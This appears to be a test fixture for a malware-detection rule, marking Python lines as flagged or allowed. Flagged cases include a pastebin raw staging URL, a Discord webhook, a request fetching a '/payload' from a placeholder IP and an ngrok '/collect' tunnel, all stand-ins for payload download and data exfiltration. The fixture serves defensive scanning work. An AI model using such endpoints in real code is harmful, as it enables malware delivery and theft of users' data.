import requests

# ruleid: MOAT-MAL016
STAGE = "https://pastebin.com/raw/abcd1234"
# ruleid: MOAT-MAL016
HOOK = "https://discord.com/api/webhooks/123/abc"
# ruleid: MOAT-MAL016
requests.get("http://203.0.113.50:8080/payload")
# ruleid: MOAT-MAL016
TUNNEL = "https://abcd-12.ngrok-free.app/collect"

# ok: MOAT-MAL016
HOME = "https://pypi.org/project/demo/"
# ok: MOAT-MAL016
LOCAL = "http://127.0.0.1:8000/"
# https://pastebin.com/raw/in-a-comment is not a string literal
